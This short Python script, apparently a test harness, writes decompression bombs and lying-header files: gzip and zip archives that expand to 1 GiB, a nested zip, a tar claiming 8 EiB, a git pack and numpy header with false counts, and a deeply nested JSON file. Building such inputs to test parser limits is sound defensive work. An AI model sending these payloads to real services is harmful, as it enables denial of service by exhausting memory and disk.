"""Little to carry out, much to unpack, nested and with lying headers."""
import struct
import tarfile
import zipfile
import zlib

from attack import left

MEBIBYTE = bytes(1 << 20)
COUNT = 1024

# After a full flush the next block is the same again, so one is compressed and repeated.
packer = zlib.compressobj(9, zlib.DEFLATED, -15)
block = packer.compress(MEBIBYTE) + packer.flush(zlib.Z_FULL_FLUSH)
packed = block * COUNT + packer.flush(zlib.Z_FINISH)
check = 0
for _ in range(COUNT):
    check = zlib.crc32(MEBIBYTE, check)
size = COUNT << 20
with open("bomb.gz", "wb") as file:
    file.write(b"\x1f\x8b\x08" + bytes(6) + b"\xff" + packed + struct.pack("<II", check, size))
head = struct.pack("<5H3I", 20, 0, 8, 0, 0, check, len(packed), size)
name = b"zeros"
local = b"PK\x03\x04" + head + struct.pack("<2H", len(name), 0) + name
central = (b"PK\x01\x02" + struct.pack("<H", 20) + head +
           struct.pack("<5H2I", len(name), 0, 0, 0, 0, 0, 0) + name)
offset = len(local) + len(packed)
end = b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, 1, 1, len(central), offset, 0)
with open("bomb.zip", "wb") as file:
    file.write(local + packed + central + end)
with zipfile.ZipFile("nested.zip", "w", zipfile.ZIP_DEFLATED) as archive:
    for number in range(64):
        archive.writestr(f"{number}.zip", local + packed[:65536])
# A size of 8 EiB in front of 6 bytes.
info = tarfile.TarInfo("endless")
info.size = 2**62
with open("lying.tar", "wb") as file:
    file.write(info.tobuf(tarfile.GNU_FORMAT) + b"attack" + bytes(506))
# A pack of git and an array whose counts lie.
with open("lying.pack", "wb") as file:
    file.write(b"PACK" + struct.pack(">II", 2, 2**32 - 1) + bytes(64))
with open("lying.npy", "wb") as file:
    head = "{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }\n".encode()
    file.write(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head)
with open("deep.json", "w", encoding="utf-8") as file:
    file.write("[" * 1_000_000)
left("7 files of at most 2 MiB that unpack to 1 GiB and more, or say so")
